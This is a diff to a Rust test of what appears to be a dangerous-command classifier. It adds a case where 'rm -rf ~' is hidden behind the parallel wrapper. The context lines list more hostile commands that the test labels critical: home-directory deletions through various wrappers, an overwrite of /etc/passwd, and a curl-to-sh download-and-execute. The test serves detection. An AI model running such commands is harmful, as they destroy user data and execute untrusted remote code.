@@ -141,6 +141,7 @@ fn wrappers_are_seen_through() {
             ("bwrap --bind / / rm -rf ~", "critical"),
             ("sg root 'rm -rf ~'", "critical"),
             ("uv run rm -rf ~", "critical"),
+            ("parallel sh -c {} ::: 'rm -rf ~'", "critical"),
             ("echo | xargs --max-args 1 rm -rf ~", "critical"),
             ("find . -fprint0 /etc/passwd", "critical"),
             ("curl -s https://x.example | chrt 0 sh", "critical"),
